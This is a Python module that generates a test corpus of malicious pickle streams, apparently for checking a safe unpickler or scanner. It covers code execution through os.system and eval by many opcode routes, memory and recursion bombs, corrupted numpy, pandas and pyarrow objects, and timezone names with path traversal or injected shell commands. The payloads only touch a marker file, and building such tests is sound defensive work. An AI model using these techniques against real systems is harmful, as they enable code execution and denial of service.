"""Pickles that would do harm where they are loaded in the usual way, one by one, by technique."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np

Cases = dict[str, bytes]
NDARRAY = b"cnumpy._core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b\x87R"


def name(module: str, path: str) -> bytes:
    """A name in the way of protocol 4, dots and all."""
    return text(module) + text(path) + b"\x93"


def text(content: str) -> bytes:
    """A text."""
    return b"X" + struct.pack("<I", len(content.encode())) + content.encode()


def octets(content: bytes) -> bytes:
    """Bytes."""
    return b"B" + struct.pack("<I", len(content)) + content


def number(value: int) -> bytes:
    """A whole number of any size."""
    content = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8b" + struct.pack("<i", len(content)) + content


def dtype(code: str, order: str = "<", rest: bytes = b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00") -> bytes:
    """A dtype of numpy."""
    return b"cnumpy\ndtype\n" + text(code) + b"\x89\x88\x87R(K\x03" + text(order) + rest + b"tb"


def array(code: bytes, shape: bytes, content: bytes) -> bytes:
    """An array of numpy, of this dtype and shape and with this content."""
    return NDARRAY + b"(K\x01" + shape + code + b"\x89" + content + b"tb"


def call(function: bytes, *arguments: bytes) -> bytes:
    """A call."""
    return function + b"(" + b"".join(arguments) + b"tR"


def families(marker: Path) -> dict[str, Callable[[], Iterator[tuple[str, bytes]]]]:
    """All techniques; each would leave the marker, if it can leave one."""
    command = f"touch {marker}"
    return {
        "calls": lambda: _calls(command, marker),
        "names": lambda: _names(command),
        "states": lambda: _states(command),
        "extensions": _extensions,
        "streams": lambda: _streams(command),
        "bombs": _bombs,
        "nesting": _nesting,
        "hashing": _hashing,
        "numbers": _numbers,
        "arrays": _arrays,
        "frames": _frames,
        "arrow": _arrow,
        "zones": lambda: _zones(command),
    }


def _calls(command: str, marker: Path) -> Iterator[tuple[str, bytes]]:
    run = text(command)
    for module, function in (("os", "system"), ("posix", "system"), ("subprocess", "getoutput"), ("os", "popen")):
        yield f"reduce {module}.{function}", call(name(module, function), run) + b"."
    code = f"open({str(marker)!r}, 'w').close()"
    for function in ("eval", "exec"):
        yield f"builtins.{function}", call(name("builtins", function), text(code)) + b"."
    yield "global in protocol 0", b"cos\nsystem\n(V" + command.encode() + b"\ntR."
    yield "inst", b"(V" + command.encode() + b"\nios\nsystem\n."
    yield "obj", b"(cos\nsystem\n" + run + b"o."
    yield "newobj", name("os", "system") + run + b"\x85\x81."
    yield "newobj_ex", name("os", "system") + run + b"\x85}\x92."
    yield (
        "map in a tuple",
        call(name("builtins", "tuple"), name("builtins", "map") + name("os", "system") + b"]" + run + b"a\x86\x81")
        + b".",
    )
    yield "partial", call(call(name("functools", "partial"), name("os", "system"), run)) + b"."
    yield "attrgetter", call(call(name("operator", "attrgetter"), text("system")), name("os", "")) + b"."
    yield "import", call(name("builtins", "__import__"), text("antigravity")) + b"."
    yield "import_module", call(name("importlib", "import_module"), text("this")) + b"."
    yield "a module of the working folder", name("evil_here", "anything") + b"."
    yield "getattr", call(call(name("builtins", "getattr"), name("os", ""), text("system")), run) + b"."
    yield "system exit", call(name("sys", "exit"), b"K\x00") + b"."
    yield "system exit, raised", call(name("os", "_exit"), b"K\x00") + b"."
    yield "input from the terminal", call(name("builtins", "input"), text("password: ")) + b"."
    yield "print to the terminal", call(name("builtins", "print"), text("\x1b]52;c;aGk=\x07")) + b"."
    yield "socket", call(name("socket", "create_connection"), b"(" + text("127.0.0.1") + b"K\x09t") + b"."
    yield "webbrowser", call(name("webbrowser", "open"), text("http://localhost/")) + b"."
    yield (
        "touch of a path",
        call(name("pathlib", "PosixPath.touch"), call(name("pathlib", "PosixPath"), text(str(marker)))) + b".",
    )
    yield (
        "write of a path",
        call(name("pathlib", "PosixPath.write_text"), call(name("pathlib", "PosixPath"), text(str(marker))), text("x"))
        + b".",
    )
    yield "nested pickle.loads", call(name("pickle", "loads"), octets(call(name("os", "system"), run) + b".")) + b"."
    yield "nested numpy.load", call(name("numpy", "load"), text(str(marker))) + b"."
    yield "nested pandas.read_pickle", call(name("pandas", "read_pickle"), text(str(marker))) + b"."
    yield "joblib", call(name("joblib", "load"), text(str(marker))) + b"."
    yield "logging config", call(name("logging.config", "fileConfig"), text(str(marker))) + b"."
    yield "ctypes", call(name("ctypes", "CDLL"), text("libc.so.6")) + b"."
    yield "pip", call(name("pip", "main"), b"]" + text("--version") + b"a") + b"."
    yield "timeit", call(name("timeit", "timeit"), text(code)) + b"."
    yield "resolve_name", call(call(name("pkgutil", "resolve_name"), text("os:system")), run) + b"."
    yield "pydoc.locate", call(call(name("pydoc", "locate"), text("os.system")), run) + b"."
    yield "bdb", call(name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), text(code)) + b"."


def _names(command: str) -> Iterator[tuple[str, bytes]]:
    run = text(command)
    for module, path in (
        ("pandas.io.common", "os.system"),
        ("numpy", "f2py.os.system"),
        ("numpy.testing._private.utils", "runstring"),
        ("pandas.core.computation.eval", "eval"),
        ("numpy._core.multiarray", "scalar.__class__"),
        ("numpy.ctypeslib", "load_library"),
        ("pandas_evil", "anything"),
        ("numpy_evil", "anything"),
        ("collections", "OrderedDict.__init__.__globals__"),
        ("datetime", "datetime.strptime"),
        ("zoneinfo", "ZoneInfo.from_file"),
    ):
        yield f"dotted {module}.{path}", call(name(module, path), run) + b"."
    yield "dotted in protocol 0", b"cpandas.io.common\nos.system\n(V" + command.encode() + b"\ntR."
    for module in ("__builtin__", "commands", "copy_reg", "exceptions", "itertools", "__main__"):
        yield f"Python 2 {module}", b"c" + module.encode() + b"\ngetoutput\n(V" + command.encode() + b"\ntR."
    yield "Python 2 eval", b"c__builtin__\neval\n(V1+1\ntR."
    yield "a name that is made", call(name("builtins", "str"), text("os")) + text("system") + b"\x93."
    yield (
        "a name out of a confused memo",
        text("os") + b"\x940" + text("json") + b"q\x00" + b"h\x00" + text("system") + b"\x93" + run + b"\x85R.",
    )
    yield "a name of nothing", call(name("", ""), run) + b"."
    yield "a name with controls", call(name("\x1b]0;x\x07", "a\nb\x00"), run) + b"."
    yield "a long name", call(name("a" * 100_000, "b" * 100_000), run) + b"."


def _states(command: str) -> Iterator[tuple[str, bytes]]:
    run = text(command)
    plant = b"}" + text("__setstate__") + name("os", "system") + b"s"
    made = name("collections", "OrderedDict") + b")R"
    yield "build that plants setstate", made + plant + b"b" + run + b"b."
    yield "build on a class", name("pathlib", "PosixPath") + b"}" + text("__str__") + name("os", "system") + b"sb."
    yield "build on a module", name("sys", "modules") + b"}" + text("os") + b"Nsb."
    yield "build with slots", made + b"N}" + text("__class__") + name("os", "system") + b"s\x86b."
    yield "build on a list", b"]" + plant + b"b."
    yield "build on an array", array(dtype("f8"), b"K\x01\x85", octets(b"\0" * 8)) + plant + b"b."
    yield "build of a dtype", dtype("f8") + b"(K\x03" + text("<") + b"NNNK\x01K\x01K\xfftb."
    yield "setitem on a namespace", name("sys", "modules") + text("os") + b"Ns."
    yield "append to a name", name("sys", "path") + text("/tmp") + b"a."
    yield "append to a call", call(name("builtins", "list")) + b"(" + run + run + b"e."
    yield "additems of a call", call(name("builtins", "set")) + b"(" + run + b"\x90."
    yield "a default factory", name("collections", "defaultdict") + name("os", "getcwd") + b"\x85R" + text("k") + b"Ns."
    yield (
        "a factory with arguments",
        call(name("collections", "defaultdict"), call(name("functools", "partial"), name("os", "system"), run)) + b".",
    )
    yield "a subclass of dict", name("sys", "modules.__class__") + b")\x81" + text("os") + b"Ns."
    yield (
        "reconstructor",
        call(name("copyreg", "_reconstructor"), name("os", "system"), name("builtins", "object"), run) + b".",
    )
    yield "newobj by name", call(name("copyreg", "__newobj__"), name("os", "system"), run) + b"."
    yield "newobj_ex by name", call(name("copyreg", "__newobj_ex__"), name("os", "system"), run + b"\x85", b"}") + b"."
    yield "persistent id", run + b"Q."
    yield "persistent id in a line", b"P" + command.encode() + b"\n."
    yield "persistent id that is called", run + b"Q" + run + b"\x85R."


def _extensions() -> Iterator[tuple[str, bytes]]:
    yield "EXT1", b"\x82\x01."
    yield "EXT2", b"\x83\x01\x00."
    yield "EXT4", b"\x84\x01\x00\x00\x00."
    yield "EXT1 that is called", b"\x82\x01" + text("x") + b"\x85R."
    yield "add_extension", call(name("copyreg", "add_extension"), text("os"), text("system"), b"K\x01") + b"0\x82\x01."
    yield "the registry itself", name("copyreg", "_extension_cache") + b"K\x01" + name("os", "system") + b"s."
    yield "EXT0", b"\x82\x00."
    yield "EXT4 below zero", b"\x84\xff\xff\xff\xff."


def _streams(command: str) -> Iterator[tuple[str, bytes]]:
    payload = call(name("os", "system"), text(command))
    yield "payload before a broken end", payload + b"0N\xff"
    yield "payload without stop", payload
    yield "payload in a second pickle", b"N." + b"\x80\x04" + payload + b"."
    yield "payload below the top", payload + b"N."
    yield "payload popped", payload + b"0N."
    yield "payload in the memo", payload + b"q\x000N."
    yield "payload in a mark", b"(" + payload + b"1N."
    yield "payload in a frame that lies", b"\x80\x04\x95" + struct.pack("<Q", 1 << 60) + payload + b"."
    yield "stop at once", b"."
    yield "an empty stack", b"0."
    yield "marks without end", b"(" * 1000 + b"t."
    yield "a protocol of tomorrow", b"\x80\xff" + payload + b"."
    yield "out of band", b"\x80\x05\x97."
    yield "out of band, read only", b"\x80\x05N\x98."
    yield "no pickle at all", b"PK\x03\x04" + b"\0" * 100
    yield "text", b"import os\nos.system('" + command.encode() + b"')\n"
    yield "an escape that is none", b"S'\\xZZ'\n."
    yield "quotes that do not match", b"S'abc\"\n."
    yield "texts that are no UTF-8", b"X\x02\x00\x00\x00\xff\xfe."


def _bombs() -> Iterator[tuple[str, bytes]]:
    yield "bytearray of a number", call(name("builtins", "bytearray"), number(1 << 40)) + b"."
    yield "bytes of a number", call(name("builtins", "bytes"), number(1 << 40)) + b"."
    yield (
        "range in a list",
        call(name("builtins", "list"), call(name("builtins", "range"), b"K\x00", number(1 << 40))) + b".",
    )
    yield "range", call(name("builtins", "range"), b"K\x00", number(1 << 200)) + b"."
    yield "a text times a number", call(name("operator", "mul"), text("x"), number(1 << 40)) + b"."
    yield "a length of bytes that lies", b"\x8e" + struct.pack("<Q", 1 << 62) + b"."
    yield "a length of a text that lies", b"\x8d" + struct.pack("<Q", (1 << 64) - 1) + b"."
    yield "a length of a bytearray that lies", b"\x96" + struct.pack("<Q", 1 << 40) + b"."
    yield "a length of a number that lies", b"\x8b" + struct.pack("<i", (1 << 31) - 1) + b"."
    yield "a negative length", b"T" + struct.pack("<i", -1) + b"."
    yield "memo far away", b"Nr\xff\xff\xff\xff."
    yield "memo very far away", b"Np" + b"9" * 4000 + b"\n."
    yield "memo below zero", b"Np-1\n."
    yield "a great many lists", b"(" + b"]" * 80_000 + b"l."
    yield "a great many marks", b"(" * 80_000 + b"."
    yield "a great many memo entries", b"N" + b"\x94" * 80_000 + b"."
    yield "a great many tuples", b"N" + b"\x85" * 80_000 + b"."
    yield "one text a million times", b"(" + text("x" * 10_000) + b"q\x00" + b"h\x00" * 100_000 + b"l."
    yield "a deque without end", call(name("collections", "deque"), b")", number(1 << 70)) + b"."
    yield "a decimal without end", call(name("decimal", "Decimal"), text("1e999999999999999999")) + b"."
    yield "a fraction without end", call(name("fractions", "Fraction"), text("1e999999999")) + b"."


def _nesting() -> Iterator[tuple[str, bytes]]:
    yield "lists in lists", b"]" * 20_000 + b"a" * 19_999 + b"."
    yield "tuples in tuples", b")" + b"\x85" * 20_000 + b"."
    yield "dicts in dicts", b"}" + b"K\x00}" * 20_000 + b"s" * 20_000 + b"."
    yield "objects in objects", b"N" + b"".join(b"\x85q\x00" + name("a", "B") + b"h\x00R" for _ in range(5_000)) + b"."
    yield "frozensets in frozensets", b"(" * 20_000 + b"\x91" * 20_000 + b"."
    cycle = b"]q\x00h\x00a."
    yield "a list in itself", cycle
    yield "an object in itself", name("a", "B") + b")\x81q\x00}" + text("me") + b"h\x00sb."
    yield "an array in itself", NDARRAY + b"q\x00(K\x01K\x01\x85" + dtype("O", "|") + b"\x89]h\x00atb."
    yield (
        "an index in itself",
        b"]q\x00"
        + call(name("pandas.core.indexes.base", "_new_Index"), name("pandas", "Index"), b"}" + text("data") + b"h\x00s")
        + b"a.",
    )
    yield "laughs in lists", b"]" + b"q\x00]h\x00ah\x00a" * 60 + b"."
    yield "laughs in tuples", b")" + b"q\x00h\x00\x86" * 60 + b"."


def _hashing() -> Iterator[tuple[str, bytes]]:
    laughs = b")" + b"2\x86" * 60
    yield "a key that is hashed for ever", b"}" + laughs + b"Ns."
    yield "a member that is hashed for ever", b"\x8f(" + laughs + b"\x90."
    yield "a frozen member that is hashed for ever", b"(" + laughs + b"\x91."
    yield "a set of one that is hashed for ever", call(name("builtins", "set"), b"]" + laughs + b"a") + b"."
    yield "an ordered key that is hashed for ever", name("collections", "OrderedDict") + b")R" + laughs + b"Ns."
    yield (
        "a counted key that is hashed for ever",
        call(name("collections", "Counter"), b"}" + laughs + b"K\x01s") + b".",
    )
    yield (
        "a name that is hashed for ever",
        call(
            name("pandas.core.indexes.base", "_new_Index"),
            name("pandas", "RangeIndex"),
            b"}("
            + text("name")
            + laughs
            + text("start")
            + b"K\x00"
            + text("stop")
            + b"K\x01"
            + text("step")
            + b"K\x01u",
        )
        + b".",
    )
    objects = array(dtype("O", "|"), b"K\x01\x85", b"]" + laughs + b"a")
    yield (
        "an index that is hashed for ever",
        call(
            name("pandas.core.indexes.base", "_new_Index"),
            name("pandas", "Index"),
            b"}" + text("data") + objects + b"s",
        )
        + b".",
    )
    yield "keys that cannot be hashed", b"}(]N}N\x8fNu."
    alike = b"".join(number(multiple * ((1 << 61) - 1)) + b"N" for multiple in range(1, 3_000))
    yield "keys with one hash", b"}(" + alike + b"u."
    yield "a slice as a key", b"}" + call(name("builtins", "slice"), b"N", b"N", b"N") + b"Ns."


def _numbers() -> Iterator[tuple[str, bytes]]:
    yield "a number of a megabyte", number(1 << 8_000_000) + b"."
    yield "a number of a megabyte in digits", b"I" + b"9" * 1_000_000 + b"\n."
    yield "a long of many digits", b"L" + b"9" * 100_000 + b"L\n."
    yield "a float of many digits", b"F" + b"9" * 1_000_000 + b"\n."
    yield (
        "a date that is none",
        call(name("datetime", "datetime"), octets(b"\x07\xe4\xff\xff\xff\xff\xff\xff\xff\xff")) + b".",
    )
    yield "a date of too few bytes", call(name("datetime", "date"), octets(b"\x07")) + b"."
    yield (
        "a zone that is a number",
        call(name("datetime", "datetime"), octets(b"\x07\xe4\x01\x01\0\0\0\0\0\0"), b"K\x01") + b".",
    )
    yield "a span without end", call(name("datetime", "timedelta"), number(1 << 60), b"K\x00", b"K\x00") + b"."
    yield "a uuid of too many bits", name("uuid", "UUID") + b")\x81}" + text("int") + number(1 << 200) + b"sb."
    yield (
        "a timestamp without end",
        call(name("pandas._libs.tslibs.timestamps", "_unpickle_timestamp"), number(1 << 80), b"N", b"N", b"K\x0a")
        + b".",
    )
    yield (
        "a timestamp of no unit",
        call(name("pandas._libs.tslibs.timestamps", "_unpickle_timestamp"), b"K\x01", b"N", b"N", b"K\xff") + b".",
    )
    yield (
        "a period far away",
        call(
            name("pandas", "Period"),
            b"N",
            call(name("pandas._libs.tslibs.offsets", "Day"), b"K\x01", b"\x89"),
            number((1 << 62) + 1),
        )
        + b".",
    )
    yield "an offset without end", call(name("pandas._libs.tslibs.offsets", "Day"), number(1 << 100), b"\x89") + b"."
    yield (
        "a range index without end",
        call(
            name("pandas.core.indexes.base", "_new_Index"),
            name("pandas", "RangeIndex"),
            b"}(" + text("start") + b"K\x00" + text("stop") + number(1 << 60) + text("step") + b"K\x01u",
        )
        + b".",
    )


def _arrays() -> Iterator[tuple[str, bytes]]:
    floats = octets(b"\0" * 16)
    huge = number(1 << 40)
    yield "objects out of bytes", array(dtype("O", "|"), b"K\x02\x85", octets(b"A" * 16)) + b"."
    yield (
        "objects out of a buffer",
        call(name("numpy._core.numeric", "_frombuffer"), octets(b"A" * 16), dtype("O", "|"), b"K\x02\x85", text("C"))
        + b".",
    )
    yield (
        "a scalar of objects",
        call(name("numpy._core.multiarray", "scalar"), dtype("O", "|"), octets(b"A" * 8)) + b".",
    )
    yield "a shape that is too great", array(dtype("f8"), huge + b"\x85", floats) + b"."
    yield "a shape below zero", array(dtype("f8"), number(-2) + b"\x85", floats) + b"."
    yield "a shape that overflows", array(dtype("f8"), number(1 << 32) + number(1 << 32) + b"\x86", floats) + b"."
    yield "a shape of nothing, and much of it", array(dtype("f8"), b"K\x00" + huge + b"\x86", octets(b"")) + b"."
    yield "elements of no bytes", array(dtype("S0", "|"), huge + b"\x85", octets(b"")) + b"."
    yield "a shape of texts", array(dtype("f8"), text("a") + b"\x85", floats) + b"."
    yield "a shape of many axes", array(dtype("f8"), b"(" + b"K\x01" * 100 + b"t", octets(b"\0" * 8)) + b"."
    yield "too few bytes", array(dtype("f8"), b"K\x08\x85", floats) + b"."
    yield "too many bytes", array(dtype("f8"), b"K\x01\x85", floats) + b"."
    yield "bytes that are objects", array(dtype("f8"), b"K\x02\x85", b"]") + b"."
    size = b"NNNJ\x00\x00\x00\x40J\xff\xff\xff\xffK\x00"
    yield "an elsize that lies", array(dtype("f8", "<", size), b"K\x02\x85", floats) + b"."
    yield (
        "flags that lie",
        array(dtype("f8", "<", b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3f"), b"K\x02\x85", floats) + b".",
    )
    yield "an alignment that lies", array(dtype("f8", "<", b"NNNK\x08K\xffK\x00"), b"K\x02\x85", floats) + b"."
    field = b"}" + text("a") + dtype("O", "|") + b"K\x00\x86s"
    yield (
        "objects in a structure",
        array(
            dtype("V8", "|", b"N" + text("a") + b"\x85" + field + b"K\x08K\x01K\x00"), b"K\x02\x85", octets(b"A" * 16)
        )
        + b".",
    )
    field = b"}" + text("a") + dtype("f8") + b"J\x00\x00\x00\x40\x86s"
    yield (
        "a field outside",
        array(dtype("V8", "|", b"N" + text("a") + b"\x85" + field + b"K\x08K\x01K\x00"), b"K\x02\x85", floats) + b".",
    )
    field = b"}" + text("a") + dtype("f8") + number(-8) + b"\x86s"
    yield (
        "a field before",
        array(dtype("V8", "|", b"N" + text("a") + b"\x85" + field + b"K\x08K\x01K\x00"), b"K\x02\x85", floats) + b".",
    )
    sub = dtype("V8", "|", dtype("O", "|") + b"K\x01\x85\x86NNK\x08K\x01K\x00")
    yield "objects in a subarray", array(sub, b"K\x02\x85", octets(b"A" * 16)) + b"."
    sub = dtype("V8", "|", dtype("f8") + huge + b"\x85\x86NNK\x08K\x01K\x00")
    yield "a subarray that is too great", array(sub, b"K\x02\x85", floats) + b"."
    yield "an order that is none", array(dtype("f8", "?"), b"K\x02\x85", floats) + b"."
    yield "a code that is none", array(dtype("f8,O"), b"K\x02\x85", floats) + b"."
    yield "characters that are none", array(dtype("U2"), b"K\x02\x85", octets(b"\xff" * 16)) + b"."
    yield "booleans that are none", array(dtype("b1", "|"), b"K\x10\x85", octets(bytes(range(240, 256)))) + b"."
    yield "a unit that is none", array(dtype("M8[potato]"), b"K\x02\x85", floats) + b"."
    yield (
        "a subclass of an array",
        name("numpy._core.multiarray", "_reconstruct")
        + name("os", "system")
        + b"K\x00\x85C\x01b\x87R(K\x01K\x02\x85"
        + dtype("f8")
        + b"\x89"
        + floats
        + b"tb.",
    )
    yield "an array file inside", call(name("numpy", "load"), octets(pickle.dumps(np.zeros(2)))) + b"."
    yield (
        "axes that are none",
        call(
            name("numpy._core.numeric", "_frombuffer"),
            octets(b"\0" * 16),
            dtype("f8"),
            b"K\x02K\x01\x86",
            text("K"),
            b"K\x05K\x07\x86",
        )
        + b".",
    )


def _frames() -> Iterator[tuple[str, bytes]]:
    def index(kind: str, **given: bytes) -> bytes:
        pairs = b"".join(text(key) + value for key, value in given.items())
        return call(name("pandas.core.indexes.base", "_new_Index"), name("pandas", kind), b"}(" + pairs + b"u")

    ints = array(dtype("i8"), b"K\x02\x85", octets(struct.pack("<qq", 0, 1)))
    two = index("RangeIndex", name=b"N", start=b"K\x00", stop=b"K\x02", step=b"K\x01")
    floats = array(dtype("f8"), b"K\x01K\x02\x86", octets(b"\0" * 16))
    level = index("Index", data=array(dtype("i8"), b"K\x01\x85", octets(b"\0" * 8)), name=b"N")
    for word, code in (("above", 1000), ("below", -1000)):
        codes = array(dtype("i8"), b"K\x02\x85", octets(struct.pack("<qq", 0, code)))
        yield (
            f"codes {word} the levels",
            index("MultiIndex", levels=b"]" + level + b"a", codes=b"]" + codes + b"a", names=b"]Na", sortorder=b"N")
            + b".",
        )
        kind = (
            name("pandas", "CategoricalDtype") + b")\x81}(" + text("categories") + level + text("ordered") + b"\x89ub"
        )
        backed = call(
            name("pandas._libs.arrays", "__pyx_unpickle_NDArrayBacked"), name("pandas", "Categorical"), b"K\x01", b"N"
        )
        yield f"codes {word} the categories", backed + kind + codes + b"}\x87b."
    yield (
        "codes of another length",
        index(
            "MultiIndex",
            levels=b"](" + level + level + b"e",
            codes=b"](" + ints + array(dtype("i8"), b"K\x00\x85", octets(b"")) + b"e",
            names=b"](NNe",
        )
        + b".",
    )

    def frame(columns: bytes, rows: bytes, *blocks: bytes) -> bytes:
        manager = call(
            name("pandas.core.internals.managers", "BlockManager"),
            b"(" + b"".join(blocks) + b"t",
            b"](" + columns + rows + b"e",
        )
        return name("pandas", "DataFrame") + b")\x81}" + text("_mgr") + manager + b"sb."

    def block(values: bytes, start: int, stop: int) -> bytes:
        places = call(name("builtins", "slice"), number(start), number(stop), b"K\x01")
        return call(name("pandas._libs.internals", "_unpickle_block"), values, places, b"K\x02")

    one = index("RangeIndex", name=b"N", start=b"K\x00", stop=b"K\x01", step=b"K\x01")
    long = index("RangeIndex", name=b"N", start=b"K\x00", stop=number(1 << 30), step=b"K\x01")
    yield "rows that are not there", frame(one, long, block(floats, 0, 1))
    yield "columns that are not there", frame(long, two, block(floats, 0, 1))
    yield "blocks over one another", frame(two, two, block(floats, 0, 1), block(floats, 0, 1))
    yield "a block outside", frame(one, two, block(floats, 5, 6))
    yield "a block far outside", frame(one, two, block(floats, 0, 1 << 62))
    yield "a block of an object", frame(one, two, block(name("os", "system"), 0, 1))
    yield "axes that are none", frame(b"N", b"N", block(floats, 0, 1))
    yield "a frame without a manager", name("pandas", "DataFrame") + b")\x81}b."
    sparse = call(
        name("pandas._libs.sparse", "IntIndex"),
        number(2),
        array(dtype("i4"), b"K\x01\x85", octets(struct.pack("<i", 999))),
    )
    kind = name("pandas", "SparseDtype") + b")\x81}(" + text("_dtype") + dtype("f8") + text("_fill_value") + b"K\x00ub"
    values = array(dtype("f8"), b"K\x01\x85", octets(b"\0" * 8))
    state = b"}(" + text("_sparse_index") + sparse + text("_sparse_values") + values + text("_dtype") + kind + b"ub."
    yield "sparse places outside", name("pandas.arrays", "SparseArray") + b")\x81" + state
    mask = array(dtype("b1", "|"), b"K\x01\x85", octets(b"\x01"))
    yield (
        "a mask of another length",
        name("pandas.arrays", "IntegerArray") + b")\x81}(" + text("_data") + ints + text("_mask") + mask + b"ub.",
    )
    yield (
        "times of no unit",
        call(
            name("pandas._libs.arrays", "__pyx_unpickle_NDArrayBacked"),
            name("pandas.arrays", "DatetimeArray"),
            b"K\x01",
            b"N",
        )
        + dtype("f8")
        + ints
        + b"}\x87b.",
    )


def _arrow() -> Iterator[tuple[str, bytes]]:
    def texts(length: int, offset: int, validity: bytes, bounds: bytes, content: bytes, alias: str = "string") -> bytes:
        def buffer(data: bytes) -> bytes:
            return call(name("pyarrow.lib", "py_buffer"), octets(data)) if data else b"N"

        kind = call(name("pyarrow.lib", "type_for_alias"), text(alias))
        buffers = b"](" + buffer(validity) + buffer(bounds) + buffer(content) + b"e"
        restored = b"(" + kind + number(length) + b"K\x00" + number(offset) + buffers + b"]Nt"
        made = call(name("pyarrow.lib", "_restore_array"), restored)
        dtype_ = call(name("pandas", "StringDtype"), text("pyarrow"))
        return (
            name("pandas.arrays", "ArrowStringArray")
            + b")\x81}("
            + text("_pa_array")
            + made
            + text("_dtype")
            + dtype_
            + b"ub."
        )

    good = struct.pack("<iii", 0, 1, 2)
    yield "texts after the end", texts(2, 0, b"", struct.pack("<iii", 0, 1, 1 << 30), b"ab")
    yield "texts before the start", texts(2, 0, b"", struct.pack("<iii", -100, 1, 2), b"ab")
    yield "texts that run backwards", texts(2, 0, b"", struct.pack("<iii", 0, 2, 1), b"ab")
    yield "a length that lies", texts(1 << 40, 0, b"", good, b"ab")
    yield "a length below zero", texts(-5, 0, b"", good, b"ab")
    yield "an offset that lies", texts(2, 1 << 40, b"", good, b"ab")
    yield "an offset below zero", texts(2, -1, b"", good, b"ab")
    yield "too few bits", texts(2, 100, b"\x01", struct.pack("<i", 0) * 200, b"ab")
    yield "no buffers", texts(2, 0, b"", b"", b"")
    yield "texts that are no UTF-8", texts(2, 0, b"", good, b"\xff\xff")
    yield "another type than it says", texts(2, 0, b"", good, b"ab", "int64")
    yield "a type that is none", texts(2, 0, b"", good, b"ab", "potato")
    yield "a type with children", texts(2, 0, b"", good, b"ab", "null")


def _zones(command: str) -> Iterator[tuple[str, bytes]]:
    made = call(name("builtins", "getattr"), name("zoneinfo", "ZoneInfo"), text("_unpickle"))
    for zone in ("../../../etc/passwd", "/etc/passwd", "", "A" * 10_000, "UTC\x00", "No/Where", "UTC; " + command):
        yield f"zone {zone[:20]!r}", call(made, text(zone), b"K\x01") + b"."
        yield f"pytz {zone[:20]!r}", call(name("pytz", "_p"), text(zone), b"K\x00", b"K\x00", text("X")) + b"."
        yield f"dateutil {zone[:20]!r}", call(name("dateutil.tz.tz", "tzfile"), b"N", text(zone)) + b"."
    other = call(name("builtins", "getattr"), name("zoneinfo", "ZoneInfo"), text("from_file"))
    yield "another attribute of a zone", call(other, text("/etc/passwd")) + b"."
    yield (
        "an attribute of another class",
        call(call(name("builtins", "getattr"), name("os", "x"), text("_unpickle")), text(command)) + b".",
    )
